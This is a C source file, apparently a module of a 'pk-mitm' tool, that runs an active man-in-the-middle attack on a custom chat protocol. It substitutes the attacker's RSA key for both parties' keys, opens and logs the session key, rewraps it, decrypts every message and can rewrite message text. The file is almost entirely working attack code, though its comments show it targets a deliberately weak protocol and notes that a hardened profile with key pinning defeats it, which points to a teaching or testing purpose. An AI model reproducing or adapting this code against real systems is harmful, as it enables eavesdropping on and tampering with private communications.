/*
 * chat_active: chat's key substitution (pk-mitm -p chat -k eve.key).  The
 * client never checks the server's key, so eve gives it her own as the
 * server's, and the relay hers as the client's: the relay wraps the
 * session key under eve's key, eve opens it, wraps it again under the
 * client's real key, and from then on reads every message both ways
 * (and with --edit rewrites their text, of any length) while client and
 * relay see a normal chat.  What it learns goes to stderr.  On the
 * hardened profile eve's key goes as that profile sends keys (a type
 * byte and the DER), and the client, which pinned the relay key's
 * fingerprint, refuses it.
 */
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "chatkey.h"
#include "mitm.h"
#include "secret.h"

struct eve {
	struct key_rsa k;
	uint8_t pem[KEY_PEM_MAX]; /* her SPKI PEM, as the original sends it */
	size_t pemlen;
	uint8_t der[1 + CHAT_H_DER_MAX]; /* hardened: 'k', her SPKI DER */
	size_t derlen;
	const struct mitm_edit *edit; /* --edit's, or NULL */
};

struct conn {
	struct eve *eve;
	char name[CHAT_NAME_MAX + 1]; /* the client's user name */
	struct key_rsa client; /* its public key, once sent */
	int have_client, keyed;
	uint8_t key[CHAT_KEY]; /* the session key, once opened */
};

static void *
chat_setup(const char *path, const char *peer, const struct mitm_edit *edit)
{
	struct eve *e;
	char msg[512];
	int rv;

	if (peer != NULL)
		errx(2,
		    "--peer-key: chat's attack takes none (the client "
		    "sends its key in clear)");
	if ((e = secret_alloc(sizeof(*e))) == NULL)
		err(2, NULL);
	secret_gmp_init();
	key_init(&e->k);
	if ((rv = key_load(&e->k, path, NULL, 1)) != KEY_OK) {
		key_load_msg(rv, path, NULL, msg, sizeof(msg));
		errx(2, "%s", msg);
	}
	if (key_spki_pem(&e->k, e->pem, sizeof(e->pem), &e->pemlen) != KEY_OK)
		errx(2, "%s: cannot write its public key", path);
	e->pemlen = chat_pem_len(e->pem, e->pemlen);
	if (key_spki_der(&e->k, e->der + 1, sizeof(e->der) - 1, &e->derlen) !=
	    KEY_OK)
		errx(2, "%s: cannot write its public key", path);
	e->derlen++;
	e->edit = edit;
	return e;
}

static void *
chat_conn_new(void *setup)
{
	struct conn *c;

	if ((c = calloc(1, sizeof(*c))) == NULL)
		return NULL;
	c->eve = setup;
	key_init(&c->client);
	return c;
}

static void
chat_conn_free(void *conn)
{
	struct conn *c = conn;

	key_clear(&c->client);
	secret_wipe(c->key, sizeof(c->key));
	free(c);
}

static void
say(const struct mitm_frame *fr, const char *what)
{
	fprintf(stderr, "pk-mitm: conn %lld frame %lld %s %s: %s", fr->conn,
	    fr->number, fr->c2s ? "c2s" : "s2c", fr->tf->step, what);
}

/* A frame of len payload bytes at p into out; its length, or -1. */
static long
put(uint8_t *out, size_t cap, const uint8_t *p, size_t len)
{
	if (len + FRAME_HDR > cap)
		return -1;
	frame_put_header(out, (uint32_t)len);
	memmove(out + FRAME_HDR, p, len);
	return (long)(len + FRAME_HDR);
}

/*
 * Eve's public key in place of the one in p, as the profile sends it:
 * faithful, a PEM; hardened, a type byte and the DER.
 */
static long
eve_key(struct conn *c, const uint8_t *p, uint8_t *out, size_t cap)
{
	struct eve *e = c->eve;

	if (p[0] != CHAT_H_SERVER && p[0] != CHAT_H_CLIENT)
		return put(out, cap, e->pem, e->pemlen);
	e->der[0] = p[0];
	return put(out, cap, e->der, e->derlen);
}

/* The client's key kept, the relay given eve's. */
static long
client_key(struct conn *c, const struct mitm_frame *fr, const uint8_t *p,
    size_t len, uint8_t *out, size_t cap)
{
	size_t skip = p[0] == CHAT_H_CLIENT;

	key_clear(&c->client);
	key_init(&c->client);
	if (key_parse(&c->client, p + skip, len - skip, NULL, 0) != KEY_OK ||
	    key_size_check(&c->client.pub) != 0) {
		say(fr, "not a key eve can use: sent as it is\n");
		return -1;
	}
	c->have_client = 1;
	fprintf(stderr,
	    "pk-mitm: conn %lld frame %lld c2s client_key: %s's key kept "
	    "(RSA-%zu), the relay gets eve's\n",
	    fr->conn, fr->number, c->name, c->client.pub.size * 8);
	return eve_key(c, p, out, cap);
}

/* The session key opened with eve's key, wrapped under the client's. */
static long
wrapped_key(struct conn *c, const struct mitm_frame *fr, const uint8_t *p,
    size_t len, uint8_t *out, size_t cap)
{
	uint8_t w[KEY_RSA_BITS_MAX / 8];
	char hex[2 * CHAT_KEY + 1];
	size_t i;

	if (chatkey_unwrap(&c->eve->k, 0, p, len, c->key) == -1) {
		say(fr, "does not open with eve's key: sent as it is\n");
		return -1;
	}
	c->keyed = 1;
	for (i = 0; i < CHAT_KEY; i++)
		snprintf(hex + 2 * i, 3, "%02x", c->key[i]);
	fprintf(stderr,
	    "pk-mitm: conn %lld frame %lld s2c wrapped_key: the session key "
	    "is %s\n",
	    fr->conn, fr->number, hex);
	secret_wipe(hex, sizeof(hex));
	if (!c->have_client ||
	    chatkey_wrap(&c->client.pub, c->key, w, sizeof(w)) == -1) {
		say(fr,
		    "no key of the client's to wrap it under: sent as it "
		    "is\n");
		return -1;
	}
	say(fr, "wrapped again under the client's key\n");
	return put(out, cap, w, c->client.pub.size);
}

/*
 * A message opened and shown; with --edit and FROM in it, encrypted
 * again (the same IV) with TO in FROM's place.
 */
static long
message(struct conn *c, const struct mitm_frame *fr, const uint8_t *p,
    size_t len, uint8_t *out, size_t cap)
{
	static uint8_t text[CHAT_TEXT_MAX], edited[CHAT_TEXT_MAX],
	    frame[1 + CHAT_IV + CHAT_TEXT_MAX];
	struct chat_msg m;
	long n;

	if (!c->keyed || chat_msg_parse(p, len, &m) != CHAT_MSG)
		return -1;
	chatkey_cfb8(c->key, m.iv, 0, m.len, text, m.body);
	say(fr, "");
	edit_show(text, m.len);
	fputc('\n', stderr);
	n = edit_apply(c->eve->edit, text, m.len, edited, sizeof(edited));
	secret_wipe(text, m.len);
	if (n < 0)
		return -1;
	say(fr, "rewritten: ");
	edit_show(edited, (size_t)n);
	fputc('\n', stderr);
	frame[0] = CHAT_MSG;
	memcpy(frame + 1, m.iv, CHAT_IV);
	chatkey_cfb8(c->key, m.iv, 1, (size_t)n, frame + 1 + CHAT_IV, edited);
	secret_wipe(edited, (size_t)n);
	return put(out, cap, frame, 1 + CHAT_IV + (size_t)n);
}

static long
chat_frame(void *conn, const struct mitm_frame *fr, size_t len, uint8_t *out,
    size_t cap)
{
	struct conn *c = conn;
	const char *step = fr->tf->step;
	const uint8_t *p = fr->buf + FRAME_HDR;
	size_t n = len - FRAME_HDR;

	if (fr->tf->bad != NULL || len < FRAME_HDR)
		return -1;
	if (strcmp(step, "user_name") == 0 && n <= CHAT_NAME_MAX) {
		memcpy(c->name, p, n);
		c->name[n] = '\0';
		return -1;
	}
	if (strcmp(step, "hello") == 0 && n > 2 + CHAT_H_NONCE &&
	    n - 2 - CHAT_H_NONCE <= CHAT_NAME_MAX) {
		memcpy(c->name, p + 2 + CHAT_H_NONCE, n - 2 - CHAT_H_NONCE);
		c->name[n - 2 - CHAT_H_NONCE] = '\0';
		return -1;
	}
	if (strcmp(step, "server_key") == 0) {
		say(fr, "the client gets eve's key as the server's\n");
		return eve_key(c, p, out, cap);
	}
	if (strcmp(step, "client_key") == 0)
		return client_key(c, fr, p, n, out, cap);
	if (strcmp(step, "wrapped_key") == 0)
		return wrapped_key(c, fr, p, n, out, cap);
	if (strcmp(step, "message") == 0)
		return message(c, fr, p, n, out, cap);
	return -1;
}

const struct mitm_active chat_active = {
    .setup = chat_setup,
    .conn_new = chat_conn_new,
    .conn_free = chat_conn_free,
    .frame = chat_frame,
    .edits = 1,
};
